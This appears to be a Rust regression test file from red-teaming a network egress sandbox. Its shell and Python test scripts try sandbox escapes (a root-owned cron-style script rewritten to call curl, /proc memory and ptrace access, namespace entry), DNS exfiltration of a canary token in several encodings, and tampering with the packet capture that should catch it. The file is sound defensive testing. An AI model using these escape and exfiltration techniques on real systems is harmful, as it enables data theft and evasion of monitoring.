//! Round 2 of the red team (issue 12's `exec` and issue 11's closed scope holes): what CMD,
//! inside `egress-fence exec`, as root without capabilities or as `--user`, can reach past
//! the fence. Each way out it found is closed (CMD never root unless told, a /proc of its own,
//! a canary that knows more encodings); these tests keep them closed, beside the attempts
//! that never got out.

use std::process::{Command, Output, Stdio};

use crate::common::exec::*;
use crate::common::*;

/// Root without capabilities is still uid 0: it owns every root-owned file and directory of
/// the host (the inside's mount namespace is a copy of the host's, read-write), so it can
/// plant what an unfenced root process later runs (/etc/cron.d, a systemd unit, the policy,
/// egress-fence's own binary) and so reach the network past the fence. So exec never runs
/// CMD as root unless told `--user root`: without `--user` (and no `sudo` user to take) it
/// refuses, and CMD does not run. Shown on a file of the test's own: a root-owned 0644
/// script, as a cron job or a unit would be; `--user nobody` cannot touch it either.
#[test]
fn root_without_capabilities_cannot_rewrite_a_root_owned_file_of_the_host() {
    use std::os::unix::fs::PermissionsExt;
    let w = World::new();
    let policy = setup(&w);
    let job = w.write_file("job.sh", "#!/bin/sh\ntrue\n");
    std::fs::set_permissions(&job, std::fs::Permissions::from_mode(0o644)).expect("chmod");
    let script = format!(
        "echo 'curl http://203.0.113.10/' >> {} && echo rewrote",
        job.display()
    );
    let mut unnamed = Command::new("timeout");
    unnamed
        .args(["-k", "5", "20", EGRESS_FENCE_BIN, "exec"])
        .args(["--netns", w.sandbox_name(), "--policy", &policy])
        .args(["--", "sh", "-c", &script])
        .env("EGRESS_FENCE_STATE_DIR", w.state_dir())
        .env_remove("SUDO_USER")
        .stdin(Stdio::null());
    let out = unnamed.output().expect("run egress-fence exec");
    assert_eq!(out.status.code(), Some(2), "{}", show(&out));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("--user"),
        "{}",
        show(&out)
    );
    let as_nobody = exec(&w, &policy, &["--user", "nobody"], &script);
    let text = std::fs::read_to_string(&job).expect("read the job");
    assert!(
        !text.contains("curl"),
        "CMD rewrote a root-owned file of the host: {text:?}\n{}\n{}",
        show(&out),
        show(&as_nobody)
    );
}

/// `--user`: /proc is the host's (the inside's pid namespace has no /proc of its own), so
/// CMD sees every process of the host by its host pid, and may read the environment of, and
/// open for writing the memory of, any process of the same user outside the fence: an
/// unfenced process it can make do anything (ptrace by /proc/PID/mem needs no pid of CMD's
/// namespace).
#[test]

fn cmd_cannot_reach_an_unfenced_process_of_its_own_user_through_proc() {
    let w = World::new();
    let policy = setup(&w);
    let mut outside = Command::new("setpriv")
        .args([
            "--reuid=nobody",
            "--regid=nogroup",
            "--clear-groups",
            "sleep",
            "30",
        ])
        .env("OUTSIDE_SECRET", "hunter2-outside")
        .spawn()
        .expect("start a process of nobody outside the fence");
    let pid = outside.id();
    let out = exec(
        &w,
        &policy,
        &["--user", "nobody"],
        &format!(
            "tr '\\0' '\\n' < /proc/{pid}/environ | grep OUTSIDE_SECRET; \
             python3 -c \"open('/proc/{pid}/mem','r+b'); print('mem-writable')\""
        ),
    );
    let _ = outside.kill();
    let _ = outside.wait();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        !stdout.contains("hunter2-outside") && !stdout.contains("mem-writable"),
        "CMD reached an unfenced process of its user\n{}",
        show(&out)
    );
}

/// A wildcard policy whose questions go upstream; the canary is looked for in pasta's
/// capture, a root-owned file in the run's directory, which CMD could rewrite before exec
/// reads it at exit if it ran as root (it does only when told `--user root`, whose cost the
/// README names); as any other user it cannot.
#[test]
fn cmd_cannot_erase_the_canary_from_pastas_capture() {
    let w = World::new();
    let text = policy_text().replace(
        "allow:\n",
        &format!("allow:\n  - domain: \"*.wild.test\"\n    ports: [{PORT}]\n"),
    );
    let policy = w.write_file("wild.yaml", &text);
    let state = w.state_dir();
    let script = format!(
        "dig +time=1 +tries=1 \"$CANARY_API_KEY.wild.test\" >/dev/null; sleep 0.5; \
         for f in $(find {} -name pasta.pcap); do python3 -c \"import os,sys; f=sys.argv[1]; t=os.environ['CANARY_API_KEY'].encode(); d=open(f,'rb').read(); o=open(f,'r+b'); o.write(d.replace(t, b'x'*len(t))); print('erased')\" $f; done; exit 0",
        state.display()
    );
    let out = exec(
        &w,
        policy.to_str().expect("utf-8 path"),
        &["--canary", "--user", "nobody"],
        &script,
    );
    assert_eq!(
        out.status.code(),
        Some(99),
        "the canary left and was not seen\n{}",
        show(&out)
    );
}

/// The canary searched in refused questions, with encodings its needles do not cover: each
/// run leaks the whole token in one way, refused by the guard, and must trip.
fn canary_trips(leak: &str) -> Output {
    let w = World::new();
    let policy = setup(&w);
    exec(
        &w,
        &policy,
        &["--canary"],
        &format!(
            "name=$(python3 -c \"import base64,os; t=os.environ['CANARY_API_KEY']; {leak}\"); \
             for n in $name; do dig +time=1 +tries=1 \"$n.exfil.test\" >/dev/null; done; exit 0"
        ),
    )
}

#[test]
fn the_canary_trips_on_the_token_reversed() {
    let out = canary_trips("print(t[::-1])");
    assert_eq!(out.status.code(), Some(99), "{}", show(&out));
}

#[test]
fn the_canary_trips_on_the_token_split_across_questions() {
    let out = canary_trips("print(t[:20], t[20:])");
    assert_eq!(out.status.code(), Some(99), "{}", show(&out));
}

#[test]
fn the_canary_trips_on_an_encoding_shifted_by_a_byte() {
    let out = canary_trips(
        "e=base64.b32encode(b'x'+t.encode()).decode().rstrip('='); print(e[:40]+'.'+e[40:])",
    );
    assert_eq!(out.status.code(), Some(99), "{}", show(&out));
}

/// What held: pasta (root, with CAP_NET_ADMIN and CAP_SYS_ADMIN, in CMD's pid namespace) can
/// be signalled by CMD as root (same uid) but not traced nor its memory or namespaces
/// opened; a user namespace cannot map root (no CAP_SETFCAP); a raw or an ICMP socket is
/// refused; the gateway, pasta's DNS address and IPv6 past the policy are refused by the
/// table.
#[test]
fn pasta_user_namespaces_raw_sockets_and_pastas_addresses_hold() {
    let w = World::new();
    let policy = setup(&w);
    let listener = w.listen_tcp(HOST_V4, 9090);
    let script = r#"
for p in $(ls /proc | grep '^[0-9]'); do case "$(cat /proc/$p/comm 2>/dev/null)" in passt*|pasta*) P=$p;; esac; done
test -n "$P" && echo found-pasta
NS=$(grep NSpid /proc/$P/status | awk '{print $NF}')
python3 -c "import ctypes,sys; l=ctypes.CDLL(None,use_errno=True); r=l.ptrace(16, int(sys.argv[1]), 0, 0); print('ptrace-attached' if r == 0 else 'ptrace-refused')" $NS
python3 -c "open('/proc/$P/mem','rb').read(1); print('mem-read')" 2>/dev/null
cat /proc/$P/environ >/dev/null 2>&1 && echo environ-read
nsenter --user=/proc/$P/ns/user true 2>/dev/null && echo entered-userns
nsenter --net=/proc/1/ns/net true 2>/dev/null && echo entered-netns
unshare -Ur true 2>/dev/null && echo mapped-root
python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); print("raw-socket")' 2>/dev/null
python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); print("icmp-socket")' 2>/dev/null
python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW); print("packet-socket")' 2>/dev/null
nc -z -w 2 198.51.100.1 53 && echo gateway-open
nc -z -w 2 192.0.2.10 9090 && echo other-port-open
nc -z -w 2 2001:db8:ffff::1 53 && echo gateway6-open
dig +time=1 +tries=1 @169.254.1.1 registry.example.test >/dev/null && echo pasta-dns-answered
echo done
"#;
    let out = exec(&w, &policy, &[], script);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains("found-pasta")
            && stdout.contains("ptrace-refused")
            && stdout.contains("done"),
        "{}",
        show(&out)
    );
    for got in [
        "ptrace-attached",
        "mem-read",
        "environ-read",
        "entered-userns",
        "entered-netns",
        "mapped-root",
        "raw-socket",
        "icmp-socket",
        "packet-socket",
        "gateway-open",
        "other-port-open",
        "gateway6-open",
        "pasta-dns-answered",
    ] {
        assert!(!stdout.contains(got), "{got}\n{}", show(&out));
    }
    assert_eq!(listener.count(), 0, "{}", show(&out));
}

/// The guard's refused questions reach exec through a broadcast channel of 1024 events whose
/// lagging readers skip what they missed: a burst of refused questions around the token's
/// (asked over TCP, so the guard surely had it) does not push it out. (A burst over UDP
/// alone also went unseen, but the guard may never have had the token's question then.)
#[test]
fn the_canary_trips_on_a_token_hidden_in_a_burst() {
    let leak = r#"
import os, socket, struct
t = os.environ['CANARY_API_KEY']
def q(name, i):
    wire = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0'
    return struct.pack('>HHHHHH', i & 0xffff, 0x0100, 1, 0, 0, 0) + wire + struct.pack('>HH', 1, 1)
ns = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]
socks = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(8)]
for s in socks:
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
for i in range(6000):
    socks[i % 8].sendto(q('junk%d.exfil.test' % i, i), (ns, 53))
    if i == 3000:
        c = socket.create_connection((ns, 53), timeout=3)
        m = q(t + '.exfil.test', 7)
        c.sendall(struct.pack('>H', len(m)) + m)
        if len(c.recv(2)) == 2:
            print('tcp-answered')
print('sent')
"#;
    let w = World::new();
    let policy = setup(&w);
    let script = format!("python3 -c \"$(cat <<'PY'\n{leak}\nPY\n)\"; sleep 1; exit 0");
    let out = exec(&w, &policy, &["--canary"], &script);
    assert_eq!(out.status.code(), Some(99), "{}", show(&out));
}

/// CMD as root may signal pasta (same uid, same pid namespace): killing it cuts CMD off
/// (fails closed), and the run still ends with CMD's code.
#[test]
fn killing_pasta_fails_closed() {
    let w = World::new();
    let policy = setup(&w);
    let allowed = w.listen_tcp(HOST_V4, PORT);
    let script = r#"
for p in $(ls /proc | grep '^[0-9]'); do case "$(cat /proc/$p/comm 2>/dev/null)" in passt*|pasta*) kill -9 $(grep NSpid /proc/$p/status | awk '{print $NF}') && echo killed-pasta;; esac; done
sleep 0.5
nc -z -w 2 registry.example.test 8080 && echo allowed-still-ok
nc -z -w 2 192.0.2.10 8080 && echo address-still-ok
exit 5
"#;
    let out = exec(&w, &policy, &[], script);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("killed-pasta"), "{}", show(&out));
    assert!(!stdout.contains("still-ok"), "{}", show(&out));
    assert_eq!(out.status.code(), Some(5), "{}", show(&out));
    assert_eq!(allowed.count(), 0, "{}", show(&out));
}

/// SIGKILL of exec at every stage (from before the namespace exists to CMD running): no
/// process of a killed run is left, and after one more run no name, mount or run directory.
#[test]
fn sigkill_of_exec_at_any_time_leaves_nothing_behind() {
    let w = World::new();
    let policy = setup(&w);
    let mut killed = Vec::new();
    for delay_ms in [
        0u64, 2, 5, 10, 20, 30, 45, 60, 80, 100, 130, 170, 220, 300, 450, 600, 800, 1000, 1300,
        1700, 2500,
    ] {
        let mut child = Command::new(EGRESS_FENCE_BIN)
            .args([
                "exec",
                "--netns",
                w.sandbox_name(),
                "--policy",
                &policy,
                "--user",
                "root",
            ])
            .args(["--", "sleep", "30"])
            .env("EGRESS_FENCE_STATE_DIR", w.state_dir())
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("start egress-fence exec");
        std::thread::sleep(std::time::Duration::from_millis(delay_ms));
        let _ = child.kill();
        let _ = child.wait();
        killed.push(child.id());
    }
    std::thread::sleep(std::time::Duration::from_millis(500));
    let leftovers = |killed: &[u32]| -> Vec<String> {
        let mut found = Vec::new();
        for entry in std::fs::read_dir("/proc").expect("/proc").flatten() {
            let Ok(cmdline) = std::fs::read(entry.path().join("cmdline")) else {
                continue;
            };
            let cmdline = String::from_utf8_lossy(&cmdline).replace('\0', " ");
            if killed.iter().any(|pid| {
                cmdline.contains(&format!("ef-exec-{pid}"))
                    || cmdline.contains(&format!("--parent {pid} "))
            }) {
                found.push(format!(
                    "process {}: {cmdline}",
                    entry.file_name().to_string_lossy()
                ));
            }
        }
        found
    };
    let processes = leftovers(&killed);
    assert!(processes.is_empty(), "{processes:#?}");
    let out = exec(&w, &policy, &[], "true");
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    let mounts = std::fs::read_to_string("/proc/self/mountinfo").expect("mountinfo");
    for pid in &killed {
        let name = format!("ef-exec-{pid}");
        assert!(
            !std::path::Path::new("/run/netns").join(&name).exists(),
            "{name} left"
        );
        assert!(!mounts.contains(&name), "{name} still mounted");
        assert!(
            !w.state_dir().join("exec").join(&name).exists(),
            "{name}'s run directory left"
        );
    }
}

/// A policy that allows the gateway's address (a `cidr:` entry, or a name that resolves to
/// it): with `--no-map-gw` pasta sends it to the real gateway, never to the host's loopback
/// services; the host's own address (pasta copies it into the namespace) is the namespace's.
#[test]
fn an_allowed_gateway_address_does_not_reach_the_hosts_loopback() {
    use std::net::TcpListener;
    let w = World::new();
    let text = policy_text().replace(
        "allow:\n",
        "allow:\n  - cidr: 198.51.100.1/32\n    ports: [8080]\n  - cidr: 198.51.100.2/32\n    ports: [8080]\n  - cidr: 2001:db8:ffff::1/128\n    ports: [8080]\n",
    );
    let policy = w.write_file("gw.yaml", &text);
    let loopback = w.in_sandbox_ns(|| {
        [
            TcpListener::bind("127.0.0.1:8080").expect("bind the host's loopback"),
            TcpListener::bind("[::1]:8080").expect("bind the host's loopback"),
        ]
    });
    for l in &loopback {
        l.set_nonblocking(true).expect("nonblocking");
    }
    let out = exec(
        &w,
        policy.to_str().expect("utf-8 path"),
        &[],
        "for a in 198.51.100.1 198.51.100.2 2001:db8:ffff::1 127.0.0.1; do nc -z -w 2 $a 8080 && echo \"reached $a\"; done; echo done",
    );
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("done"),
        "{}",
        show(&out)
    );
    for l in &loopback {
        assert!(
            l.accept().is_err(),
            "the host's loopback was reached\n{}",
            show(&out)
        );
    }
}
